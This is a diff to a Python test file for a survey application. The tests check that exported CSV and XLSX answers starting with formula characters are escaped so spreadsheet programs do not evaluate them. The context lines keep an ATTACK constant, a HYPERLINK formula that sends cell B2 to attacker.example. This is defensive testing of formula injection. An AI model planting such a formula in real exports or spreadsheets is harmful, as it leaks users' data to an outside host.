@@ -18,9 +18,8 @@ import sqlalchemy as sa
 
 from survey.core.text_safety import FORMULA_STARTERS, csv_cell, csv_value
 from survey.models import Answer, Question, Unit
-from survey.responses.storing import submit_response
 from survey.surveys.catalog import survey_by_code
-from tests.factories import make_organization, make_surveyed_commune, make_unit
+from tests.factories import make_organization, make_surveyed_commune, make_unit, submit_and_commit
 
 ATTACK = 'HYPERLINK("http://attacker.example/?leak="&B2,"Bấm vào đây")'
 # One text per starter, and texts that look like the escaped form already.
@@ -90,7 +89,7 @@ def _survey(db, runner, tmp_path):
     survey = survey_by_code("ks-congthuc")
     for n, text in enumerate(TEXTS):
         answers = {"hl": 4, "gop_y": text, "nhiet_do": NUMBERS[n % len(NUMBERS)]}
-        submit_response(survey, answers, submission_uid=f"u{n}", unit_id=unit.id)
+        submit_and_commit(survey, answers, submission_uid=f"u{n}", unit_id=unit.id)
     # Closed: every answer is in the export (open, they would come in batches of k).
     assert run(runner, "survey", "close", "ks-congthuc").exit_code == 0
     return survey
@@ -221,7 +220,7 @@ UTF8_CSV = "csv:Text - txt - csv (StarCalc):44,34,76"
 )
 def test_a_spreadsheet_program_does_not_evaluate_the_answers(runner, db, tmp_path):
     survey = _survey(db, runner, tmp_path)
-    submit_response(survey, {"hl": 3, "gop_y": "=1+1"}, submission_uid="cong", unit_id=None)
+    submit_and_commit(survey, {"hl": 3, "gop_y": "=1+1"}, submission_uid="cong", unit_id=None)
     path = tmp_path / "phieu.xlsx"
     result = run(runner, "survey", "export", "ks-congthuc", "--format", "xlsx", "-o", path)
     assert result.exit_code == 0, result.output
